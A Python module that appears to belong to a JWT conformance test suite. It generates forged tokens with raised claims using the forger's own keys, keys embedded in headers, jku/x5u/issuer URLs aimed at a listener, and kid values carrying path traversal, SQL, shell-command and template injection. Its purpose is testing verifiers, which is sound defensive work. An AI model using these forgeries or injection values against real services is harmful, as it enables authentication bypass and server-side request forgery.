"""Keys of the forger's own: used in silence, embedded in the header, or pointed to (RFC 8725 §3.10)."""

from __future__ import annotations

import base64
import hashlib
from functools import partial
from urllib.parse import urlsplit

from conformance.tokens.attack import Material, attack, elevated, without
from conformance.tokens.compact import Json, encoded
from conformance.tokens.signing import (
    OWN_KID,
    algorithm_of,
    keyed,
    own_certificate,
    own_jwk,
    own_jwks,
    own_key,
    sealed,
)


def _self_signed(material: Material, kind: str, header: Json, algorithm: str | None = None) -> str:
    key = own_key(kind)
    alg = algorithm or algorithm_of(key)
    return sealed(material.genuine.header | {"alg": alg} | header, elevated(material), key, alg)


foreign = partial(
    attack,
    rule="signature-foreign",
    why="A signature proves nothing unless it was made with the one key that signs Synq's tokens.",
    references=("RFC 7515 §5.2", "RFC 8725 §3.3"),
)

FOREIGN = {
    "rs256": ("RSA", "RS256"),
    "rs512": ("RSA", "RS512"),
    "ps256": ("RSA", "PS256"),
    "es256": ("EC", "ES256"),
    "eddsa": ("OKP", "EdDSA"),
}

for _name, (_kind, _alg) in FOREIGN.items():
    foreign(
        f"foreign-key-{_name}",
        what=f"The claims were raised and signed with {_alg} by a key of our own, under the genuine key id.",
    )(partial(_self_signed, kind=_kind, header={}, algorithm=_alg))


@foreign(
    "foreign-key-without-kid",
    what="The claims were raised and signed by our own key, and the header has no key id.",
)
def _(material: Material) -> str:
    header = without(material.genuine.header, ["kid"]) | {"alg": "RS256"}
    return sealed(header, elevated(material), own_key("RSA"), "RS256")


foreign(
    "foreign-key-unknown-kid",
    what="The claims were raised and signed by our own key, under an unknown key id.",
)(partial(_self_signed, kind="RSA", header={"kid": OWN_KID}))


@foreign(
    "foreign-key-certificate-hash",
    what="The claims were raised and signed by our own key, whose certificate the header names by its hash.",
)
def _(material: Material) -> str:
    return _self_signed(material, "RSA", {"x5t#S256": encoded(hashlib.sha256(own_certificate()).digest())})


@foreign(
    "foreign-secret-hs256",
    what="The claims were raised and signed with HS256 under a secret of our own.",
)
def _(material: Material) -> str:
    return keyed(material.genuine.header, elevated(material), b"a secret that only the forger knows")


embedded = partial(
    attack,
    rule="embedded-key",
    why="A server that takes the key from the token believes every caller who brings a key.",
    references=("RFC 8725 §3.10", "RFC 7515 §4.1.3", "CVE-2018-0114"),
)


def _embedded(material: Material, kind: str, kid: bool = False) -> str:
    jwk = own_jwk(kind)
    return _self_signed(material, kind, {"jwk": jwk} | ({"kid": OWN_KID} if kid else {}))


for _kind, _named in (("RSA", "RSA"), ("EC", "EC"), ("OKP", "Ed25519")):
    embedded(
        f"embedded-jwk-{_named.lower()}",
        what=f"The claims were raised and signed by our own {_named} key, which the header brings as jwk.",
    )(partial(_embedded, kind=_kind))

embedded(
    "embedded-jwk-own-kid",
    what="The claims were raised and signed by our own key, which the header brings along and names.",
)(partial(_embedded, kind="RSA", kid=True))


@embedded(
    "embedded-jwk-oct",
    what="The claims were raised and signed with HS256 under a secret that the header brings along as jwk.",
)
def _(material: Material) -> str:
    secret = b"a secret that everybody can read"
    return keyed(
        material.genuine.header | {"jwk": {"kty": "oct", "k": encoded(secret)}}, elevated(material), secret
    )


@embedded(
    "embedded-jwks",
    what="The claims were raised and signed by our own key, which the header brings along in a set.",
)
def _(material: Material) -> str:
    return _self_signed(material, "RSA", {"jwks": own_jwks(), "kid": OWN_KID})


@embedded(
    "embedded-x5c",
    what="The claims were raised and signed by our own key, whose certificate is in the header's x5c.",
)
def _(material: Material) -> str:
    return _self_signed(material, "RSA", {"x5c": [base64.b64encode(own_certificate()).decode("ascii")]})


pointed = partial(
    attack,
    rule="key-url",
    why="A server that fetches the key from where the token says believes the owner of any web server, "
    "and can be made to call any address.",
    references=("RFC 8725 §3.10", "RFC 7515 §4.1.2", "CWE-918"),
    takes=["listener"],
)

NOWHERE = "https://keys.invalid"
"""In place of a listener; the name can never resolve (RFC 6761 §6.4)."""


def _listener(material: Material) -> str:
    return (material.listener or NOWHERE).rstrip("/")


@pointed(
    "jku",
    what="The claims were raised and signed by our own key, and the header's jku points to where it is.",
)
def _(material: Material) -> str:
    return _self_signed(material, "RSA", {"jku": f"{_listener(material)}/jwks.json", "kid": OWN_KID})


@pointed(
    "jku-genuine-kid",
    what="The claims were raised and signed by our own key, and jku points to it under the genuine key id.",
)
def _(material: Material) -> str:
    return _self_signed(material, "RSA", {"jku": f"{_listener(material)}/jwks.json"})


@pointed(
    "jku-disguised",
    what="The claims were raised and signed by our own key, and jku points to it by a URL that begins like "
    "the issuer's.",
)
def _(material: Material) -> str:
    host = urlsplit(str(material.genuine.claims.get("iss", ""))).hostname or "api.synq.io"
    listener = urlsplit(_listener(material))
    url = f"{listener.scheme}://{host}@{listener.netloc}/jwks.json"
    return _self_signed(material, "RSA", {"jku": url, "kid": OWN_KID})


@pointed(
    "jku-mentions-issuer",
    what="The claims were raised and signed by our own key, and jku points to it by a URL that has the issuer's in it.",
)
def _(material: Material) -> str:
    issuer = str(material.genuine.claims.get("iss", "https://api.synq.io"))
    return _self_signed(material, "RSA", {"jku": f"{_listener(material)}/jwks.json?of={issuer}", "kid": OWN_KID})


@pointed(
    "issuer-discovered",
    what="The claims were raised and signed by our own key, which is published at the address that the token names "
    "as its issuer.",
    references=("RFC 8725 §3.8", "RFC 8725 §3.10", "CWE-346", "CWE-918"),
)
def _(material: Material) -> str:
    key = own_key("RSA")
    header = material.genuine.header | {"alg": algorithm_of(key), "kid": OWN_KID}
    return sealed(header, elevated(material) | {"iss": _listener(material)}, key, algorithm_of(key))


@pointed(
    "x5u",
    what="The claims were raised and signed by our own key, and the header's x5u points to its certificate.",
)
def _(material: Material) -> str:
    return _self_signed(material, "RSA", {"x5u": f"{_listener(material)}/certificate.pem", "kid": OWN_KID})


injected = partial(
    attack,
    rule="kid-injection",
    why="A key id that reaches a file, a query or a shell lets the forger choose the key, or do worse.",
    references=("RFC 8725 §3.10", "RFC 7515 §4.1.4", "CWE-22", "CWE-89", "CWE-78"),
)

INJECTED: dict[str, tuple[object, bytes, str]] = {
    "path-traversal": (
        "../../../../../../../../dev/null",
        b"",
        "leads to an empty file, and the HMAC has the empty secret",
    ),
    "absolute-path": ("/dev/null", b"", "is the path of an empty file, and the HMAC has the empty secret"),
    "encoded-path-traversal": (
        "..%2f..%2f..%2f..%2f..%2f..%2fdev%2fnull",
        b"",
        "leads percent-encoded to an empty file, and the HMAC has the empty secret",
    ),
    "known-file": (
        "../../../../../../../../proc/sys/kernel/randomize_va_space",
        b"2\n",
        "leads to a file of known content, which is the secret of the HMAC",
    ),
    "file-url": ("file:///dev/null", b"", "is the URL of an empty file, and the HMAC has the empty secret"),
    "sql-union": (
        "none' UNION SELECT 'forged-secret' -- ",
        b"forged-secret",
        "is a query whose result is the secret of the HMAC",
    ),
    "sql-or": ("none' OR '1'='1", b"", "is a condition that always holds"),
    "command": (
        "|echo forged-secret",
        b"forged-secret\n",
        "is a command whose output is the secret of the HMAC",
    ),
    "command-substitution": ("$(echo forged-secret)", b"forged-secret", "is a command in a shell's brackets"),
    "template": ("{{'forged'}}${'forged'}", b"forgedforged", "is an expression of a template language"),
    "nul": ("key\0.pem", b"", "has a NUL in it"),
    "empty": ("", b"", "is empty, and the HMAC has the empty secret"),
    "very-long": ("k" * 3_000, b"", "has 3,000 characters"),
    "non-ascii": ("schlüssel-\U0001f511", b"", "has characters beyond ASCII"),
    "prototype": ("__proto__", b"", "is the name of an object's prototype"),
    "number": (0, b"", "is a number"),
    "null": (None, b"", "is null"),
    "list": (["synq"], b"", "is a list"),
    "object": ({"$ne": None}, b"", "is an object that some databases take for a condition"),
}


def _injected(material: Material, kid: object, secret: bytes) -> str:
    return keyed(material.genuine.header | {"kid": kid}, elevated(material), secret)


for _name, (_kid, _secret, _words) in INJECTED.items():
    injected(
        f"kid-{_name}",
        what=f"The claims were raised, and the key id {_words}.",
    )(partial(_injected, kid=_kid, secret=_secret))


@injected(
    "kid-url",
    what="The claims were raised and signed by our own key, and the key id is the URL where it is.",
    takes=["listener"],
)
def _(material: Material) -> str:
    return _self_signed(material, "RSA", {"kid": f"{_listener(material)}/jwks.json"})
